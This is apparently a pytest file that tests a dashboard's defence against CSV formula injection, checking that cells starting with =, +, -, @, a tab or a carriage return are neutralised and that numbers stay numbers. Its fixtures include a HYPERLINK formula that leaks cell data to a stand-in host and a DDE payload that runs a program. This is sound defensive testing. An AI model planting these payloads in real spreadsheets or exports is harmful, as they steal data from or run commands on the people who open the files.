"""CSV exports cannot carry formulas: text cells that a spreadsheet would run (= + - @,
a leading tab or carriage return) are neutralised; numbers stay numbers."""

from datetime import datetime

import pandas as pd
import pytest

from dashboard import audit
from dashboard.auth import User
from program import clock
from reports.csv_safe import neutralise_cell, neutralise_formulas

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),  # the CR also becomes a line feed, so the cell is quoted
        ("Sector 11", "Sector 11"),
        ("a=b", "a=b"),  # only the first character counts
        ("-5", "-5"),  # plain numbers as text: a spreadsheet reads the number, no formula
        ("+3.5%", "+3.5%"),
        ("-1,234.50", "-1,234.50"),
        ("", ""),
    ],
)
def test_a_text_cell_is_neutralised_only_when_it_would_start_a_formula(text, safe):
    assert neutralise_cell(text) == safe


def test_numbers_stay_numbers_and_column_names_are_neutralised_too():
    table = pd.DataFrame(
        {"officer": ["=cmd|' /C calc'!A0", "B1"], "=sector": ["-2+3", "11"], "delta": [-5, 3]}
    )
    safe = neutralise_formulas(table)
    assert list(safe.columns) == ["officer", "'=sector", "delta"]
    assert safe["officer"].tolist() == ["'=cmd|' /C calc'!A0", "B1"]
    assert safe["'=sector"].tolist() == ["'-2+3", "11"]
    assert safe["delta"].tolist() == [-5, 3] and safe["delta"].dtype == table["delta"].dtype
    assert table.columns[1] == "=sector" and table.iloc[0, 0].startswith("=")  # a copy


def test_an_export_carries_no_formula_and_keeps_negative_numbers():
    table = pd.DataFrame({"user": [HYPERLINK, "@SUM(A1)", "ok"], "change": [-5, 0, 2]})
    text = audit.export_csv(
        table,
        user=User("command", "command"),
        period="October 2026",
        generated_at=datetime(2026, 10, 31, 16, 5, tzinfo=clock.BALTIMORE),
        threshold=10,
    ).decode()
    body = [line.rsplit(",", 3)[0] for line in text.splitlines()]  # less the provenance
    assert body == [
        "user,change",
        '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",-5',
        "'@SUM(A1),0",
        "ok,2",
    ]
